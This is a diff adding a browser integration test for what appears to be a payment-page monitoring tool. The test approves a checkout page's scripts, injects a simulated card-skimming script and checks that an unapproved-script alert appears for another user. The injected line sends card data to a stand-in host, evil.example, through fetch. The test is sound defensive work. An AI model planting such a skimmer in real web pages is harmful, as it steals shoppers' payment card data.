@@ -75,6 +75,62 @@ class StoresBrowserIT {
     }
 
     @Test
+    void aScriptThatNobodyApprovedOnThePaymentPageIsACriticalAlert() {
+        var shop = store.takeIntoCare();
+        try (var chromium = Chromium.start()) {
+            var adam = login(chromium.window(), "adam", shop);
+            adam.locator("#payment-page-open").click();
+            assertThat(adam.locator("#page-elements")).containsText("Not visited yet");
+            accessibility.look(adam, "page-1-new");
+            adam.locator("#page-visit").click();
+            assertThat(adam.locator("#page-elements")).containsText("checkout.min.js");
+            approveAll(adam);
+            assertThat(adam.locator("#page-state")).containsText("as approved");
+            accessibility.look(adam, "page-3-approved");
+
+            store.inject("<script>fetch('//evil.example', {body: card})</script>");
+            adam.locator("#page-watch").click();
+            adam.locator("#page-minutes input").fill("0");
+            adam.locator("#page-watch-dialog-confirm").click();
+            assertThat(adam.locator("#page-watch-outcome")).containsText("Nothing was stored");
+            adam.locator("#page-minutes input").fill("1");
+            accessibility.look(adam, "page-4-watch");
+            adam.locator("#page-watch-dialog-confirm").click();
+            assertThat(adam.locator("#page-watch-dialog")).hasCount(0);
+
+            var rita = login(chromium.window("de"), "rita", shop);
+            rita.navigate("http://127.0.0.1:" + port + "/alerts");
+            rita.getByText("The payment page is not what was approved").first().click();
+            assertThat(rita.locator("body"))
+                    .containsText("A script in the page that nobody approved");
+            Chromium.picture(rita, "page-5-alert");
+            rita.navigate("http://127.0.0.1:" + port + "/stores/" + shop + "/payment-page");
+            assertThat(rita.locator("#page-state")).containsText("1 nicht freigegeben");
+            assertThat(rita.locator("#page-visit, #page-watch, #page-approve")).hasCount(0);
+            Chromium.picture(rita, "page-6-differs");
+        } finally {
+            store.inject("");
+        }
+        accessibility.assertNothingFound();
+    }
+
+    private void approveAll(Page adam) {
+        adam.locator("#page-approve").click();
+        var boxes = adam.locator("#approve-chosen vaadin-checkbox");
+        assertThat(boxes).hasCount(3);
+        for (var box : boxes.all()) {
+            box.locator("input").check();
+        }
+        adam.locator("#approve-headers input").check();
+        adam.locator("#approve-elements-confirm").click();
+        assertThat(adam.locator("#approve-outcome")).containsText("justification");
+        adam.locator("#approve-why input").fill("takes orders and cards");
+        accessibility.look(adam, "page-2-approve");
+        adam.locator("#approve-elements-confirm").click();
+        assertThat(adam.locator("#approve-elements")).hasCount(0);
+    }
+
+    @Test
     void theSensorPluginIsMadeAndDownloadedByWhoManagesStores() {
         var shop = store.takeIntoCare();
         try (var chromium = Chromium.start()) {
